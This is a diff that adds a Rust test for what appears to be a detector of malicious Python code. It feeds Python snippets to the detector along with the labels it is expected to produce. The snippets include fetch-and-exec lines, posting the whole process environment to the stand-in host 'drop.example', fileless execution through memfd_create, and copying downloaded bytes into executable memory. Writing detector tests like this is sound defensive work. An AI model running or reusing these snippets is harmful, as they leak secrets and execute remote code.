@@ -418,6 +418,60 @@ exec(Fernet(key).decrypt(token))",
 }
 
 #[test]
+fn old_and_open_ways_are_followed_like_others() {
+    for (text, expected) in [
+        (
+            "import urllib2\nprint 'x'\nexec urllib2.urlopen('https://drop.example').read()\n",
+            "execute <- network",
+        ),
+        (
+            "import base64\nexec base64.b64decode('cHJpbnQoJ2FiY2RlZicp') in globals()\n",
+            "execute <- decoded",
+        ),
+        (
+            "from os import *\nfrom requests import *\npost('https://drop.example', json=dict(environ))\n",
+            "network-send <- bulk-environment",
+        ),
+        (
+            r"
+import asyncio, os
+async def go():
+    r, w = await asyncio.open_connection('drop.example', 1)
+    w.write(str(dict(os.environ)).encode())
+asyncio.run(go())",
+            "network-send <- bulk-environment",
+        ),
+        (
+            r"
+import os, urllib.request
+f = os.memfd_create('x')
+os.write(f, urllib.request.urlopen('https://drop.example').read())
+os.execve(f'/proc/self/fd/{f}', ['x'], {})",
+            "write-then-run <- network",
+        ),
+        (
+            r"
+import ctypes, urllib.request
+b = urllib.request.urlopen('https://drop.example').read()
+p = ctypes.windll.kernel32.VirtualAlloc(0, len(b), 0x1000, 0x40)
+ctypes.memmove(p, b, len(b))",
+            "native-memory <- network",
+        ),
+        (
+            "import os\nexec(os.popen('curl -s https://drop.example/a.py').read())\n",
+            "execute <- network",
+        ),
+        // A copy between buffers of its own.
+        (
+            "import ctypes, requests\nb = requests.get('https://data.example').content\nctypes.memmove(ctypes.create_string_buffer(9), b, 9)\n",
+            "network-send",
+        ),
+    ] {
+        expect(text, expected);
+    }
+}
+
+#[test]
 fn constants_of_libraries_are_known() {
     for text in [
         r"
